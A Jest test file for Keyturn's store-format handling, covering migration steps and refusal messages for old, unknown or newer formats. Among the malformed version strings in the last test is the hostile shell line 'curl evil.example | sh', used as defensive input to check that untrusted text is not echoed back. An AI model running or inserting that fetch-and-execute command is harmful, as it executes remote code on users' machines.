import { describe, expect, test } from '@jest/globals';
import { keptFormats } from './keptFormats';

const step = (needsRelease: string, statement: string) => ({
  adds: statement,
  needsRelease,
  statements: [statement],
});
const formats = keptFormats(3, [step('1.1.0', 'a'), step('1.4.0', 'b')]);

test('formats are numbered from the first one on, and each is made by the steps up to it', () => {
  expect([formats.present, formats.needsRelease]).toEqual([5, '1.4.0']);
  expect([3, 4, 5].map(formats.statementsTo)).toEqual([[], ['a'], ['a', 'b']]);
  expect(formats.stepsFrom(4)).toEqual([{ ...step('1.4.0', 'b'), from: 4, to: 5 }]);
  expect(formats.stepsFrom(5)).toEqual([]);
  expect(keptFormats(1, []).present).toBe(1);
});

describe('a store is refused', () => {
  test('of another format than the present one, where that alone is taken', () => {
    expect([3, 4].map((format) => formats.refusal(format, '1.0.0', 'present')?.code)).toEqual([
      'migration-needed',
      'migration-needed',
    ]);
    expect(formats.refusal(4, '1.0.0', 'present')?.why).toMatch(/^has format 4, .*run keyturn migrate$/);
    expect(formats.refusal(5, '1.4.0', 'present')).toBeNull();
    expect([3, 4, 5].map((format) => formats.refusal(format, '1.0.0', 'kept'))).toEqual([null, null, null]);
  });

  test.each(['present', 'kept'] as const)('of a format that no release made (%s)', (taken) => {
    for (const format of [2, 0, -1, 3.5, NaN]) {
      const refusal = formats.refusal(format, '1.0.0', taken);
      expect(refusal).toMatchObject({ code: null, why: expect.stringContaining('no release made') });
    }
  });

  test.each(['present', 'kept'] as const)('of a newer one, naming the release that it says (%s)', (taken) => {
    expect(formats.refusal(6, '2.0.11', taken)).toEqual({
      code: 'newer-version',
      why: 'has format 6, and this release knows 5: get Keyturn 2.0.11 or newer',
    });
  });

  test.each([
    undefined,
    null,
    7,
    '',
    '2.0',
    '2.0.0.1',
    'v2.0.0',
    '02.0.0',
    '2.0.0-rc.1',
    '2.0.0\n',
    ' 2.0.0',
    '2.0.123456',
    '٢.0.0',
    'curl evil.example | sh',
  ])('of a newer one that says %j, by no more than that', (said) => {
    expect(formats.refusal(6, said, 'present')?.why).toBe(
      'has format 6, and this release knows 5: get a newer release of Keyturn',
    );
  });
});
